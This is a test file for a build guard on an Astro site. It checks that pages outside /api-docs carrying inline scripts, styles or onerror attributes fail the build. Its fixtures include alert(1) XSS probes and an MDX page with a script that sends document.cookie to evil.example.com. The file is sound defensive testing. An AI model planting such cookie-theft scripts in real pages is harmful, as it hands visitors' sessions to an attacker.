/**
 * A page's text cannot bring a script with it: a build whose pages carry inline scripts, styles or
 * handler attributes anywhere but Redoc's /api-docs fails, naming the page, instead of shipping
 * them with their hashes in the Content-Security-Policy.
 */
import { execFile } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, describe, expect, it } from 'vitest';
import { findInlineCode } from '../../src/integrations/inline-code-guard.ts';
import { childEnv, ROOT } from '../support/server.ts';

const scratch = mkdtempSync(join(tmpdir(), 'inline-code-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

describe('inline code in pages', () => {
  it('is found in any built page but /api-docs: scripts, style elements and on…= attributes', () => {
    const dir = join(scratch, 'client');
    for (const [file, html] of Object.entries({
      'index.html': '<p>plain</p><script src="/_astro/form.js"></script>',
      'faq/index.html': '<p>hi</p><script>alert(1)</script>',
      'terms/index.html': '<style>p{color:red}</style><img src="x" onerror="alert(1)">',
      'api-docs/index.html': '<script>window.redoc = 1</script><style>.r{}</style>',
    })) {
      mkdirSync(join(dir, file, '..'), { recursive: true });
      writeFileSync(join(dir, file), html);
    }
    expect(findInlineCode(dir).sort()).toEqual(['/faq: an inline <script>', '/terms: a <style> element, an onerror= attribute']);
  });

  it("stops the build of an editor's MDX page that carries a script, naming the page", async () => {
    const project = join(scratch, 'project');
    for (const entry of ['src', 'content', 'public', 'spec', 'astro.config.mjs', 'package.json', 'tsconfig.json', 'redocly.yaml'])
      cpSync(join(ROOT, entry), join(project, entry), { recursive: true });
    symlinkSync(join(ROOT, 'node_modules'), join(project, 'node_modules'));
    writeFileSync(
      join(project, 'content/offer.mdx'),
      '---\ntitle: Spring offer\ndescription: A page an editor added, with a script pasted from somewhere.\nupdated: 2026-11-22\n---\n\nTen percent off.\n\n<script>{"fetch(\'https://evil.example.com/?c=\' + document.cookie)"}</script>\n',
    );
    const build = await promisify(execFile)('npm', ['run', '--silent', 'build'], { cwd: project, env: { ...childEnv(), ASTRO_TELEMETRY_DISABLED: '1' } }).then(
      () => ({ failed: false, output: '' }),
      (err: { stdout: string; stderr: string }) => ({ failed: true, output: `${err.stdout}${err.stderr}` }),
    );
    expect(build.failed).toBe(true);
    expect(build.output).toMatch(/Pages may not carry inline scripts or styles.*\/offer: an inline <script>/s);
  });
});
